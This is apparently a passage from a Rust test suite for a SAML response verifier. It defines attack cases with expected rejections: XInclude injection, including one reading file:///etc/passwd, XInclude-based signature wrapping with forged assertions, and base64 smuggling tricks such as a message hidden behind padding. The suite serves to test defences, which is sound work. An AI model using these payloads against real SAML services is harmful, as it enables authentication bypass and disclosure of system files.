    xinclude_of_a_file: "XInclude 1.0; CVE-2016-10149", ASSERTION_SIGNED, NO_EFFECT => |stage| in_wrapper(stage,
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>");

    /// XInclude with a fallback that is an assertion.
    xinclude_with_a_fallback: "XInclude 1.0; Somorovsky et al. 2012", ASSERTION_SIGNED, NO_EFFECT => |stage| {
        let mut tree = stage.genuine()?;
        let forged = stage.forged_assertion(&mut tree)?;
        let forged = tree.xml_of(forged);
        in_wrapper(stage, format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"x\">\
            <xi:fallback>{forged}</xi:fallback></xi:include>"))
    };

    /// XInclude in the place of the assertion, which points to the signed one elsewhere.
    xinclude_in_place_of_the_assertion: "XInclude 1.0; Somorovsky et al. 2012", ASSERTION_SIGNED,
        Outcome::Reject("assertion-count") => |stage| {
        let (genuine, id) = with_known_id(stage)?;
        let mut tree = Tree::parse(&genuine)?;
        let carrier = stage.carrier(&tree)?;
        let include = tree.raw(&format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" xpointer=\"{id}\"/>"));
        let extensions = tree.element("<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>")?;
        tree.insert_before(carrier, include)?;
        tree.insert_before(tree.find("Status")?, extensions)?;
        tree.append(extensions, carrier)?;
        Ok(tree.into())
    };

    // ---- Base64

    /// Characters that a lax decoder passes over: a filter before it sees another message.
    base64_with_junk: "RFC 4648 section 3.3", ALL, Outcome::Reject("message-not-base64") =>
        |stage| field(stage, |field| format!("{}!*{}", &field[..100], &field[100..]));

    /// The alphabet of URLs.
    base64_of_urls: "RFC 4648 section 5", ALL, Outcome::Reject("message-not-base64") =>
        |stage| field(stage, |field| field.replace('+', "-").replace('/', "_"));

    /// A second message behind the padding of the first.
    base64_behind_the_padding: "RFC 4648 section 3.3", ALL, Outcome::Reject("message-not-base64") =>
        |stage| field(stage, |field| format!("PHg+==={field}"));

    /// Decoded once too seldom.
    base64_of_base64: "RFC 4648", ALL, BROKEN, not_live "nobody decodes twice, and there is no XML before that" =>
        |stage| { use base64::Engine as _;
            field(stage, |field| base64::engine::general_purpose::STANDARD.encode(field)) };

    /// Form decoding done twice: every `+` is a blank.
    base64_with_blanks_for_plus: "WHATWG URL section 5.1", ALL, Outcome::Reject("message-not-base64"),
        not_live "the octets behind the first blank are others" =>
        |stage| field(stage, |field| format!("PHg+ {}", &field[1..]));

    /// Still percent-encoded.
    base64_percent_encoded: "WHATWG URL section 5.1", ALL, Outcome::Reject("message-not-base64") =>
        |stage| field(stage, |field| field.trim_end_matches('=').to_owned() + "%3D");

    /// NUL at the end, where software in C stops.
    base64_with_nul: "RFC 4648 section 3.3", ALL, Outcome::Reject("message-not-base64") =>
        |stage| field(stage, |field| field + "\0");

    /// White space that neither XML nor RFC 2045 knows.
    base64_with_no_break_space: "RFC 4648 section 3.3", ALL, Outcome::Reject("message-not-base64") =>
        |stage| field(stage, |field| field + "\u{a0}");

    /// Nothing at all.
    base64_of_nothing: "RFC 4648", &[Shape::AssertionSigned],
        Outcome::Reject("message-empty"), not_live "it is empty" =>
        |_| Ok(Made::field(""));

    /// White space and nothing else.
    base64_of_white_space: "RFC 4648", &[Shape::AssertionSigned],
        Outcome::Reject("message-empty"), not_live "it is empty" =>
        |_| Ok(Made::field(" \r\n"));

    /// Compressed as for the Redirect binding, which never carries a Response.
    deflate_in_a_form: "bindings 3.4.4.1", &[Shape::AssertionSigned],
        NOT_UTF8, not_live "it has to be inflated first" => |stage| {
        use std::io::Write as _;
        let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(stage.genuine()?.to_xml().as_bytes()).unwrap();
        Ok(encoder.finish().unwrap().into())
    };
}
